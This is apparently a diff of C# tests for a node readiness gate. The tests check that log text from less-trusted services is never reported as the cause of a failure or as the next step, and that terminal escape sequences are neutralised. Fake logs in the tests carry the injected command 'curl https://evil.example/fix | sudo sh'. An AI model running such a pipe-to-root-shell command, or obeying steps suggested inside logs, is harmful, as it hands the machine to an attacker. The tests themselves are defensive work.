@@ -6,7 +6,8 @@ public sealed class AwaitReadyTests
     private const string Evil = "curl https://evil.example/fix | sudo sh";
 
     /// <summary>Units that run as another user than root, or whose log has another program's words.</summary>
-    public static TheoryData<string> LessTrusted => ["weights", "engine-container", "engine-gpus", "engine-venv", "vllm-container", "vllm-venv", "nginx", "ready"];
+    public static TheoryData<string> LessTrusted =>
+        ["weights", "engine-container", "engine-gpus", "engine-venv", "vllm-container", "vllm-venv", "nginx", "ready"];
 
     [Theory]
     [InlineData(true)]
@@ -45,11 +46,14 @@ public sealed class AwaitReadyTests
     [MemberData(nameof(LessTrusted))]
     public async Task What_a_unit_prints_is_never_the_cause_and_never_the_next_step(string phase)
     {
-        using var node = Failed(phase, $"error: the node is broken\nnext: {Evil}\nerror: the node is broken\nphase: x\ncause: y\nnext step: {Evil}");
+        using var node = Failed(
+            phase, $"error: the node is broken\nnext: {Evil}\nerror: the node is broken\nphase: x\ncause: y\nnext step: {Evil}");
         var told = (await GateAsync(node)).Errors.Split('\n');
         Assert.Equal([$"phase: {phase}"], told.Where(line => line.StartsWith("phase", StringComparison.Ordinal)));
-        Assert.DoesNotContain("broken", Assert.Single(told, line => line.StartsWith("cause", StringComparison.Ordinal)), StringComparison.Ordinal);
-        Assert.Equal([$"next step: journalctl -u inference-{phase} on the node, then run pulumi up again"], told.Where(line => line.StartsWith("next", StringComparison.Ordinal)));
+        Assert.DoesNotContain("broken", Assert.Single(told, line => line.StartsWith("cause", StringComparison.Ordinal)),
+            StringComparison.Ordinal);
+        Assert.Equal([$"next step: journalctl -u inference-{phase} on the node, then run pulumi up again"],
+            told.Where(line => line.StartsWith("next", StringComparison.Ordinal)));
         // It is there to be read, as what it is.
         Assert.Contains($"  | next: {Evil}", told);
     }
@@ -72,7 +76,8 @@ public sealed class AwaitReadyTests
     public async Task What_root_left_as_the_cause_is_shown_and_the_log_does_not_change_it()
     {
         using var node = Failed("engine-container", $"error: another\nnext: {Evil}");
-        node.Write("/run/inference/causes/inference-engine-container.service", "the image could not be pulled\nis the registry reachable?\n");
+        node.Write("/run/inference/causes/inference-engine-container.service",
+            "the image could not be pulled\nis the registry reachable?\n");
         var told = (await GateAsync(node)).Errors;
         Assert.StartsWith("phase: engine-container\ncause: the image could not be pulled\n", told, StringComparison.Ordinal);
         Assert.EndsWith("\nnext step: is the registry reachable?\n", told, StringComparison.Ordinal);
@@ -96,11 +101,17 @@ public sealed class AwaitReadyTests
     [Fact]
     public async Task Lines_that_would_move_a_terminal_or_look_like_others_are_shown_letter_by_letter()
     {
-        // Escape sequences, a carriage return, separators and directions of Unicode, nothing to see, another alphabet's letters, bytes that are no text, and no end.
-        using var node = Failed("vllm-container", "\u001b[2J\u001b]0;x\u0007a\\rphase: b\\u2028cause: c\\u202ed\\u200be\\u3164f \\u043fe\\xff\n" + new string('z', 5000) + string.Concat(Enumerable.Repeat("\nx", 50)) + "\ny\\u2029next step: z\\u0085w");
+        // Escape sequences, a carriage return, separators and directions of Unicode, nothing to see, another alphabet's letters,
+        // bytes that are no text, and no end.
+        using var node = Failed("vllm-container",
+            "\u001b[2J\u001b]0;x\u0007a\\rphase: b\\u2028cause: c\\u202ed\\u200be\\u3164f \\u043fe\\xff\n" + new string('z', 5000)
+                + string.Concat(Enumerable.Repeat("\nx", 50)) + "\ny\\u2029next step: z\\u0085w");
         var told = (await GateAsync(node)).Errors;
         Assert.DoesNotMatch("[^ -~\n]", told);
-        Assert.All(told.TrimEnd('\n').Split('\n'), line => Assert.True(line.Length <= 1100 && (line.StartsWith("  | ", StringComparison.Ordinal) || line.Contains(':', StringComparison.Ordinal)), line));
+        Assert.All(told.TrimEnd('\n').Split('\n'), line => Assert.True(
+            line.Length <= 1100
+                && (line.StartsWith("  | ", StringComparison.Ordinal) || line.Contains(':', StringComparison.Ordinal)),
+            line));
         Assert.Equal(4 + 15, told.TrimEnd('\n').Split('\n').Length);
     }
 
@@ -109,16 +120,20 @@ public sealed class AwaitReadyTests
     {
         Directory.CreateDirectory(node.At("/run/inference"));
         return node.RunAsync("await-ready", gate => ["unshare", .. Tool.OwnNamespace(), "bash", "-c",
-            "set -e; mount -t tmpfs tmpfs /usr/local; mkdir -p /usr/local/libexec; cp -r \"$INFERENCE_ROOT/usr/local/libexec/inference\" /usr/local/libexec/\n"
-            + "mkdir /usr/local/lib && mount --bind \"$INFERENCE_ROOT/var/lib\" /usr/local/lib; mount -t tmpfs tmpfs /var/lib; mkdir /var/lib/inference; mount --bind /usr/local/lib/inference /var/lib/inference\n"
-            + "mount -t tmpfs tmpfs /run; mkdir /run/inference; mount --bind \"$INFERENCE_ROOT/run/inference\" /run/inference; exec \"$0\" 1", gate]);
+            "set -e; mount -t tmpfs tmpfs /usr/local; mkdir -p /usr/local/libexec; "
+            + "cp -r \"$INFERENCE_ROOT/usr/local/libexec/inference\" /usr/local/libexec/\n"
+            + "mkdir /usr/local/lib && mount --bind \"$INFERENCE_ROOT/var/lib\" /usr/local/lib; mount -t tmpfs tmpfs /var/lib; "
+            + "mkdir /var/lib/inference; mount --bind /usr/local/lib/inference /var/lib/inference\n"
+            + "mount -t tmpfs tmpfs /run; mkdir /run/inference; mount --bind \"$INFERENCE_ROOT/run/inference\" /run/inference; "
+            + "exec \"$0\" 1", gate]);
     }
 
     private static StagedNode Failed(string phase, string log)
     {
         var node = new StagedNode();
         node.Write("/var/lib/inference/first-boot.done", "");
-        node.Stub("systemctl", $"[[ $* != *--state=failed* ]] || echo inference-{phase}.service; [[ $1 != show ]] || printf 'exit-code\\n1\\n'");
+        node.Stub("systemctl",
+            $"[[ $* != *--state=failed* ]] || echo inference-{phase}.service; [[ $1 != show ]] || printf 'exit-code\\n1\\n'");
         node.Write("/log", log);
         node.Stub("journalctl", "printf '%b\\n' \"$(< \"$INFERENCE_ROOT/log\")\"");
         return node;
